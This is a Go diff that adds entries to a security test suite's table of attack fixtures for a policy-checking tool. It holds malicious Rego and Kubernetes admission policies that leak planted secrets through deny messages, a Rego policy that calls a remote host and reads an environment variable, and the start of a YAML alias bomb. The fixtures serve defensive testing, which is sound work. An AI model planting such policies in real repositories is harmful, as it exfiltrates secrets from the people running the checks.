@@ -108,6 +108,20 @@ var attacks = []attack{
 	{"Rego that calls out", func(s *attackScene) githubtest.Files {
 		return githubtest.Files{"policies/evil.rego": "package main\n\ndeny contains msg if { msg := http.send({\"method\": \"get\", \"url\": \"" + s.remote + "\"}).raw_body }\n\ndeny contains msg if { msg := opa.runtime().env.PLANTED }\n"}
 	}, 1, "policy/rego"},
+	{"Rego that tells secrets", func(s *attackScene) githubtest.Files {
+		files := s.with("- x.yaml\n", githubtest.Files{"x.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata: {a: " + base64.StdEncoding.EncodeToString([]byte(plantedSecret)) + "}\nstringData: {b: " + plantedSecret + "}\n"})
+		files["policies/tell.rego"] = "package main\n\ndeny contains msg if {\n\tinput.kind == \"Secret\"\n\tmsg := sprintf(\"told: %v, %v\", [input, base64.decode(input.data.a)])\n}\n\n" +
+			"deny contains msg if {\n\tinput.kind == \"Secret\"\n\tmsg := sprintf(\"told: %v\", [input])\n}\n"
+		return files
+	}, 0, ""},
+	{"an admission policy that tells secrets", func(s *attackScene) githubtest.Files {
+		return s.with("- x.yaml\n- vap.yaml\n", githubtest.Files{
+			"x.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\nstringData: {b: " + plantedSecret + "}\n",
+			"vap.yaml": "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicy\nmetadata: {name: p}\nspec:\n  matchConstraints: {resourceRules: [{apiGroups: [\"\"], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]}\n" +
+				"  validations: [{expression: \"false\", messageExpression: \"'told ' + object.stringData.b\"}]\n" +
+				"---\napiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicyBinding\nmetadata: {name: b}\nspec: {policyName: p, validationActions: [Deny]}\n",
+		})
+	}, 1, "told hidden by sluice"},
 	{"an alias bomb", func(s *attackScene) githubtest.Files {
 		bomb := "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
 		for i := 1; i < 12; i++ {
